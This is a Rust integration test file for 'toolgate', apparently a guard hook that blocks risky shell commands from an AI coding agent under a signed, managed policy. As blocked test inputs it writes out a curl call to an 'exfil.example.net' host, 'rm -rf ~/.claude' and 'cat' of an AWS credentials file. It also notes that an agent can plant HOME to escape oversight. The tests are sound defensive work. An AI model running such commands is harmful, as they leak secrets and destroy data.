//! A managed deployment for real (issue 27): `/etc/toolgate` and `/etc/claude-code` staged in
//! a private mount namespace (an overlay over `/etc`, so the machine's own `/etc` is never
//! touched), and the real binary run inside it. What an administrator deploys there cannot
//! be replaced by the environment; a missing policy, an older signed policy and an expired
//! one fail closed; `install --scope managed` and `doctor` do what a fleet needs.

use assert_cmd::Command;
use serde_json::{Value, json};
use std::path::{Path, PathBuf};

fn bin() -> PathBuf {
    assert_cmd::cargo::cargo_bin("toolgate")
}

fn pre(tool: &str, input: Value) -> Vec<u8> {
    json!({
        "session_id": "s1", "cwd": "/tmp", "hook_event_name": "PreToolUse",
        "permission_mode": "default", "tool_name": tool, "tool_input": input,
        "tool_use_id": "toolu_1",
    })
    .to_string()
    .into_bytes()
}

fn bash(command: &str) -> Vec<u8> {
    pre("Bash", json!({ "command": command }))
}

/// Runs a command with `/etc` overlaid by `upper` (what the test writes there appears in
/// `/etc`), an empty tmpfs over the account's home folder (a managed deployment keeps
/// its journal there, and the machine's own must not be touched), and the test's own
/// folder over `/var/cache` (where root compiles packs for every account).
const SCRIPT: &str = r#"
mount -t overlay overlay -o "lowerdir=/etc,upperdir=$TG_UPPER,workdir=$TG_WORK" /etc || exit 97
if [ -n "$TG_HOME" ]; then mount -t tmpfs tmpfs "$TG_HOME" || exit 97; fi
mount --bind "$TG_VARCACHE" /var/cache || exit 97
"$@"
rc=$?
if [ -n "$TG_AFTER" ]; then sh -c "$TG_AFTER" >&2; fi
exit $rc
"#;

struct Managed {
    dir: tempfile::TempDir,
}

struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Managed {
    /// `None` where the machine cannot make a private mount namespace (not root, no
    /// overlayfs); CI sets TOOLGATE_REQUIRE_SERVICES, and then it must.
    fn new() -> Option<Managed> {
        let dir = tempfile::tempdir().unwrap();
        for d in ["upper", "work", "varcache"] {
            std::fs::create_dir(dir.path().join(d)).unwrap();
        }
        use std::os::unix::fs::PermissionsExt;
        let varcache = std::fs::Permissions::from_mode(0o755);
        std::fs::set_permissions(dir.path().join("varcache"), varcache).unwrap();
        let m = Managed { dir };
        let probe = m.command(&["true"]).output().unwrap();
        if probe.status.success() {
            return Some(m);
        }
        let why = String::from_utf8_lossy(&probe.stderr).into_owned();
        if std::env::var_os("TOOLGATE_REQUIRE_SERVICES").is_some() {
            panic!("a private mount namespace with an overlay over /etc is needed: {why}");
        }
        eprintln!("skipped: no private mount namespace here ({why})");
        None
    }

    /// The overlay's upper folder: `etc("toolgate/policy.toml")` appears as
    /// `/etc/toolgate/policy.toml` inside.
    fn etc(&self, rel: &str) -> PathBuf {
        let p = self.dir.path().join("upper").join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        p
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut c = Command::new("unshare");
        c.args(["-m", "sh", "-c", SCRIPT, "sh"])
            .args(args)
            .env("TG_UPPER", self.dir.path().join("upper"))
            .env("TG_WORK", self.dir.path().join("work"))
            .env("TG_VARCACHE", self.dir.path().join("varcache"))
            .env("TG_HOME", home())
            .env_remove("TG_AFTER");
        for v in toolgate::deployment::VARIABLES {
            c.env_remove(v);
        }
        c
    }

    fn toolgate(&self, args: &[&str], env: &[(&str, &str)], stdin: &[u8]) -> Run {
        let b = bin();
        let mut all = vec![b.to_str().unwrap()];
        all.extend_from_slice(args);
        let mut c = self.command(&all);
        for (k, v) in env {
            c.env(k, v);
        }
        let out = c.write_stdin(stdin.to_vec()).output().unwrap();
        Run {
            code: out.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        }
    }
}

/// The account's home folder, from the account database.
fn home() -> String {
    // SAFETY: getuid has no preconditions.
    toolgate::identity::home_dir(unsafe { libc::getuid() }).unwrap()
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

/// The records of a journal, as `journal query --format json` prints them.
fn records(journal: &Path) -> Vec<Value> {
    let out = Command::new(bin())
        .args(["journal", "query", "--format", "json", "--journal"])
        .arg(journal)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

const MANAGED_POLICY: &str = "serial = 1\n[network]\nallow = [\"github.com\"]\n";

/// The environment cannot replace the managed policy, move the journal or the deadline; the
/// record says which variables were set and ignored. Outside a managed deployment the same
/// variables work as documented.
#[test]
fn a_managed_deployment_ignores_the_environment() {
    let Some(m) = Managed::new() else { return };
    write(&m.etc("toolgate/policy.toml"), MANAGED_POLICY);
    let tmp = tempfile::tempdir().unwrap();
    let journal = tmp.path().join("j.db");
    let elsewhere = tmp.path().join("elsewhere/j.db");
    let empty = tmp.path().join("empty.toml");
    write(
        &empty,
        "[packs]\ndisable = [\"self-protection\", \"remote-exec\"]\n",
    );
    let env = [
        ("TOOLGATE_POLICY", empty.to_str().unwrap()),
        ("TOOLGATE_JOURNAL", elsewhere.to_str().unwrap()),
        ("TOOLGATE_DEADLINE_MS", "1"),
        ("TOOLGATE_CLAUDE_SETTINGS", "/nonexistent"),
    ];
    let j = journal.to_str().unwrap();
    let off_list = bash("curl -s https://exfil.example.net/x");
    let r = m.toolgate(&["hook", "--journal", j], &env, &off_list);
    assert_eq!(r.code, 2, "the managed allowlist applies: {}", r.stderr);
    assert!(r.stderr.contains("exfil.example.net"), "{}", r.stderr);
    let r = m.toolgate(&["hook", "--journal", j], &env, &bash("rm -rf ~/.claude"));
    assert_eq!(r.code, 2, "self-protection stays on: {}", r.stderr);
    let r = m.toolgate(&["hook", "--journal", j], &env, &bash("ls -la"));
    assert_eq!(
        r.code, 0,
        "a 1 ms deadline from the environment is ignored: {}",
        r.stderr
    );
    assert!(!elsewhere.exists(), "TOOLGATE_JOURNAL moved the journal");
    let rows = records(&journal);
    assert_eq!(rows.len(), 3);
    for row in &rows {
        let ignored = row["ignored_env"].as_str().unwrap_or_default();
        for (name, _) in env {
            assert!(ignored.contains(name), "{name} not noted: {row}");
        }
    }
    // `check` agrees with the hook.
    let r = m.toolgate(
        &["check", "--", "curl", "https://exfil.example.net/x"],
        &env,
        b"",
    );
    assert_eq!(r.code, 2, "{}", r.stderr);

    // The same variables outside a managed deployment: they choose the policy.
    let out = Command::new(bin())
        .arg("hook")
        .env("TOOLGATE_POLICY", &empty)
        .env("TOOLGATE_JOURNAL", &elsewhere)
        .write_stdin(off_list)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let rows = records(&elsewhere);
    assert_eq!(rows[0].get("ignored_env"), None, "{}", rows[0]);
}

/// In a managed deployment the journal's place comes from the account database, not from
/// `HOME` or `XDG_STATE_HOME`, which the agent can plant for the next session.
#[test]
fn a_managed_journal_lives_under_the_accounts_home() {
    let Some(m) = Managed::new() else { return };
    write(&m.etc("toolgate/policy.toml"), MANAGED_POLICY);
    let home = home();
    let tmp = tempfile::tempdir().unwrap();
    let planted = tmp.path().display().to_string();
    let after = format!(
        "test -s '{home}/.local/state/toolgate/journal.db.segment' -o -s '{home}/.local/state/toolgate/journal.db' && echo JOURNAL-AT-HOME"
    );
    let r = m.toolgate(
        &["hook"],
        &[
            ("TG_AFTER", &after),
            ("HOME", &planted),
            ("XDG_STATE_HOME", &planted),
        ],
        &bash("ls"),
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stderr.contains("JOURNAL-AT-HOME"), "{}", r.stderr);
    assert_eq!(
        std::fs::read_dir(tmp.path()).unwrap().count(),
        0,
        "nothing written under the planted HOME or XDG_STATE_HOME"
    );
}

/// A managed marker with no policy fails closed, and doctor fails: the policy file deleted
/// with its signature and key left behind, or the whole folder gone while Claude Code's
/// managed settings still run toolgate.
#[test]
fn a_missing_managed_policy_fails_closed() {
    let Some(m) = Managed::new() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let j = tmp.path().join("j.db");
    let j = j.to_str().unwrap();
    write(&m.etc("toolgate/policy.pub"), "AAAA\n");
    write(&m.etc("toolgate/policy.toml.sig"), "x\n");
    let r = m.toolgate(&["hook", "--journal", j], &[], &bash("ls"));
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("managed deployment"), "{}", r.stderr);
    assert!(
        r.stderr.contains("/etc/toolgate/policy.toml"),
        "{}",
        r.stderr
    );
    let rows = records(Path::new(j));
    assert_eq!(rows.len(), 1, "the blocked call is recorded");
    assert_eq!(rows[0]["decision"], "error");

    let m = Managed::new().unwrap();
    let settings = json!({"allowManagedHooksOnly": true, "hooks": {"PreToolUse": [{"matcher": "*",
        "hooks": [{"type": "command", "command": bin(), "args": ["hook"]}]}]}});
    write(
        &m.etc("claude-code/managed-settings.json"),
        &settings.to_string(),
    );
    let r = m.toolgate(&["hook", "--journal", j], &[], &bash("ls"));
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("managed settings"), "{}", r.stderr);
    let r = m.toolgate(&["doctor"], &[], b"");
    assert_eq!(r.code, 1, "{}", r.stdout);
    assert!(
        r.stdout
            .lines()
            .any(|l| l.starts_with("FAIL") && l.contains("policy") && l.contains("missing")),
        "{}",
        r.stdout
    );
    // An empty managed policy is a deliberate choice: the built-in packs.
    write(&m.etc("toolgate/policy.toml"), "");
    let r = m.toolgate(&["hook", "--journal", j], &[], &bash("ls"));
    assert_eq!(r.code, 0, "{}", r.stderr);
}

/// `toolgate policy sign --key KEY POLICY`, as run.
fn sign_command(key: &Path, policy: &Path) -> std::process::Output {
    Command::new(bin())
        .args(["policy", "sign", "--key"])
        .arg(key)
        .arg(policy)
        .output()
        .unwrap()
}

/// Write `policy.toml` in `dir` and sign it; signing must succeed.
fn sign(dir: &Path, key: &Path, policy_text: &str) {
    let policy = dir.join("policy.toml");
    write(&policy, policy_text);
    let out = sign_command(key, &policy);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Rollback: an older policy, validly signed, is refused once a newer serial was accepted;
/// the same serial again, or a newer one, is fine. An expired policy fails closed.
#[test]
fn an_older_signed_policy_is_refused_and_an_expired_one_fails_closed() {
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("k");
    let keygen = Command::new(bin())
        .args(["policy", "keygen", "--out"])
        .arg(&key)
        .output()
        .unwrap();
    assert!(keygen.status.success());
    let deployed = dir.path().join("etc");
    std::fs::create_dir(&deployed).unwrap();
    std::fs::copy(dir.path().join("k.pub"), deployed.join("policy.pub")).unwrap();
    let journal = dir.path().join("state/j.db");
    let hook = |command: &str| {
        let out = Command::new(bin())
            .arg("hook")
            .env("TOOLGATE_POLICY", deployed.join("policy.toml"))
            .env("TOOLGATE_JOURNAL", &journal)
            .write_stdin(bash(command))
            .output()
            .unwrap();
        (
            out.status.code().unwrap(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    // Signing needs a serial.
    write(
        &deployed.join("policy.toml"),
        "[limits]\ndeadline_ms = 3000\n",
    );
    let out = sign_command(&key, &deployed.join("policy.toml"));
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("serial"));

    sign(&deployed, &key, "serial = 5\n");
    assert_eq!(hook("ls").0, 0);
    sign(&deployed, &key, "serial = 4\n");
    let (code, stderr) = hook("ls");
    assert_eq!(code, 2, "{stderr}");
    assert!(
        stderr.contains("rollback") && stderr.contains("serial 4"),
        "{stderr}"
    );
    sign(&deployed, &key, "serial = 5\n");
    assert_eq!(hook("ls").0, 0, "the accepted serial again");
    sign(&deployed, &key, "serial = 6\n");
    assert_eq!(hook("ls").0, 0);
    sign(&deployed, &key, "serial = 5\n");
    assert_eq!(hook("ls").0, 2, "6 was accepted, so 5 is now old");

    sign(&deployed, &key, "serial = 7\nexpires = \"2001-01-01\"\n");
    let (code, stderr) = hook("ls");
    assert_eq!(code, 2);
    assert!(stderr.contains("expired on 2001-01-01"), "{stderr}");
    sign(&deployed, &key, "serial = 7\nexpires = \"2999-12-31\"\n");
    assert_eq!(hook("ls").0, 0);
    write(
        &deployed.join("policy.toml"),
        "serial = 8\nexpires = \"tomorrow\"\n",
    );
    let out = sign_command(&key, &deployed.join("policy.toml"));
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("YYYY-MM-DD"));
    let (code, stderr) = hook("ls");
    assert_eq!(
        code, 2,
        "the old signature does not cover the edit: {stderr}"
    );
}

/// `install --scope managed` writes `allowManagedHooksOnly` and an empty managed policy when
/// there is none; `onFailure: block` only when asked or when Claude Code understands it;
/// `--binary` must be an executable file.
#[test]
fn install_for_a_managed_fleet() {
    let Some(m) = Managed::new() else { return };
    let tools = tempfile::tempdir().unwrap();
    let claude = tools.path().join("claude");
    let fake_claude = |version: &str| {
        write(
            &claude,
            &format!("#!/bin/sh\necho '{version} (Claude Code)'\n"),
        );
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&claude, std::fs::Permissions::from_mode(0o755)).unwrap();
    };
    let path = format!("{}:/usr/bin:/bin", tools.path().display());
    let after =
        "cat /etc/claude-code/managed-settings.json; echo @@@; cat /etc/toolgate/policy.toml";
    fake_claude("2.1.300");
    let r = m.toolgate(
        &["install", "--scope", "managed"],
        &[("PATH", &path), ("TG_AFTER", after)],
        b"",
    );
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    let (settings, policy) = r.stderr.split_once("@@@").unwrap();
    let settings: Value = serde_json::from_str(settings).unwrap();
    assert_eq!(settings["allowManagedHooksOnly"], true, "{settings}");
    let entry = &settings["hooks"]["PreToolUse"][0]["hooks"][0];
    assert_eq!(
        entry["onFailure"], "block",
        "Claude Code 2.1.300 understands it: {entry}"
    );
    assert!(policy.contains("serial = 1"), "{policy}");
    assert!(r.stdout.contains("created empty"), "{}", r.stdout);

    // An older Claude Code: no onFailure key (it would drop the entry).
    fake_claude("2.1.200");
    let settings_file = tools.path().join("managed-settings.json");
    let out = Command::new(bin())
        .args(["install", "--settings"])
        .arg(&settings_file)
        .env("PATH", &path)
        .output()
        .unwrap();
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("predates 2.1.295"));
    let written: Value = serde_json::from_slice(&std::fs::read(&settings_file).unwrap()).unwrap();
    assert_eq!(
        written["hooks"]["PreToolUse"][0]["hooks"][0].get("onFailure"),
        None
    );
    assert_eq!(
        written["allowManagedHooksOnly"], true,
        "a managed-settings.json by name"
    );
    // Asked for: written, onto the entries already there.
    let out = Command::new(bin())
        .args(["install", "--on-failure", "block", "--settings"])
        .arg(&settings_file)
        .env("PATH", &path)
        .output()
        .unwrap();
    assert!(out.status.success());
    let written: Value = serde_json::from_slice(&std::fs::read(&settings_file).unwrap()).unwrap();
    assert_eq!(
        written["hooks"]["PreToolUse"][0]["hooks"][0]["onFailure"],
        "block"
    );
    assert_eq!(written["hooks"]["PreToolUse"].as_array().unwrap().len(), 1);

    let plain = tools.path().join("plain-file");
    write(&plain, "not a program");
    for bad in ["/nonexistent/toolgate", plain.to_str().unwrap(), "/tmp"] {
        let out = Command::new(bin())
            .args(["install", "--binary", bad, "--settings"])
            .arg(tools.path().join("other.json"))
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1), "{bad}");
        assert!(String::from_utf8_lossy(&out.stderr).contains("not an executable file"));
    }
    assert!(!tools.path().join("other.json").exists());
}

/// doctor in a managed deployment: policy, key and folder ownership and modes, and the
/// TOOLGATE_* variables it sees.
#[test]
fn doctor_checks_ownership_and_the_environment() {
    let Some(m) = Managed::new() else { return };
    let policy = m.etc("toolgate/policy.toml");
    write(&policy, MANAGED_POLICY);
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&policy, std::fs::Permissions::from_mode(0o644)).unwrap();
    let r = m.toolgate(&["doctor"], &[("TOOLGATE_POLICY", "/dev/null")], b"");
    assert!(
        r.stdout.contains("PASS  deployment managed"),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout.contains(
            "TOOLGATE_POLICY is set in this environment; the managed deployment ignores it"
        ),
        "{}",
        r.stdout
    );
    assert!(!r.stdout.contains("FAIL  owner"), "{}", r.stdout);
    std::fs::set_permissions(&policy, std::fs::Permissions::from_mode(0o666)).unwrap();
    let r = m.toolgate(&["doctor"], &[], b"");
    assert_eq!(r.code, 1);
    assert!(
        r.stdout.lines().any(|l| l.starts_with("FAIL  owner")
            && l.contains("policy.toml is writable by group or others")),
        "{}",
        r.stdout
    );
}

/// A root-owned install: `install --scope managed` compiles the packs into the system
/// folder, and another account reads them there (its own home substituted into path rules)
/// instead of parsing TOML on every call; it cannot write them, and a folder others could
/// write is not used.
#[test]
fn root_compiled_packs_serve_every_account() {
    use std::os::unix::fs::PermissionsExt;
    let Some(m) = Managed::new() else { return };
    let account = tempfile::tempdir().unwrap();
    let home = account.path().join("home");
    std::fs::create_dir(&home).unwrap();
    std::os::unix::fs::chown(&home, Some(4242), Some(4242)).unwrap();
    std::fs::set_permissions(account.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let passwd = std::fs::read_to_string("/etc/passwd").unwrap();
    let line = format!("tgcache:x:4242:4242::{}:/bin/sh\n", home.display());
    write(&m.etc("passwd"), &format!("{passwd}{line}"));
    let r = m.toolgate(
        &["install", "--scope", "managed"],
        &[("PATH", "/usr/bin:/bin")],
        b"",
    );
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    assert!(
        r.stdout.contains("/var/cache/toolgate: ")
            && r.stdout.contains("packs compiled for every account"),
        "{}",
        r.stdout
    );
    let folder = m.dir.path().join("varcache/toolgate");
    let entries = || -> Vec<(PathBuf, u32)> {
        let mut out: Vec<(PathBuf, u32)> = std::fs::read_dir(&folder)
            .unwrap()
            .map(|e| {
                let p = e.unwrap().path();
                let mode = std::fs::metadata(&p).unwrap().permissions().mode() & 0o777;
                (p, mode)
            })
            .collect();
        out.sort();
        out
    };
    let written = entries();
    assert!(written.len() >= 10, "{written:?}");
    assert!(
        written.iter().all(|(_, mode)| *mode == 0o644),
        "{written:?}"
    );

    let home_s = home.to_str().unwrap();
    let as_account = |args: &[&str], stdin: &[u8]| {
        let b = bin();
        let mut all = vec!["setpriv", "--reuid=4242", "--regid=4242", "--clear-groups"];
        all.push(b.to_str().unwrap());
        all.extend_from_slice(args);
        let out = m
            .command(&all)
            .env("HOME", home_s)
            .env("PATH", "/usr/bin:/bin")
            .write_stdin(stdin.to_vec())
            .output()
            .unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let (code, stdout, stderr) = as_account(&["doctor"], b"");
    let line = stdout
        .lines()
        .find(|l| l.contains("pack cache"))
        .unwrap_or_default();
    assert!(
        line.starts_with("PASS") && line.contains("packs read from /var/cache/toolgate"),
        "{code} {stdout}{stderr}"
    );
    let credentials = format!("cat {home_s}/.aws/credentials");
    let (code, _, stderr) = as_account(&["hook"], &bash(&credentials));
    assert_eq!(code, 2, "the account's own home is protected: {stderr}");
    let (code, _, stderr) = as_account(&["hook"], &bash("ls -la"));
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(entries(), written, "the account wrote nothing there");

    // A folder others could write to could hold forged entries: parsed from TOML instead.
    std::fs::set_permissions(&folder, std::fs::Permissions::from_mode(0o777)).unwrap();
    let (_, stdout, _) = as_account(&["doctor"], b"");
    let line = stdout
        .lines()
        .find(|l| l.contains("pack cache"))
        .unwrap_or_default();
    assert!(
        line.starts_with("WARN") && line.contains("parsed from TOML on every call"),
        "{stdout}"
    );
    let (code, _, stderr) = as_account(&["hook"], &bash(&credentials));
    assert_eq!(code, 2, "{stderr}");
}
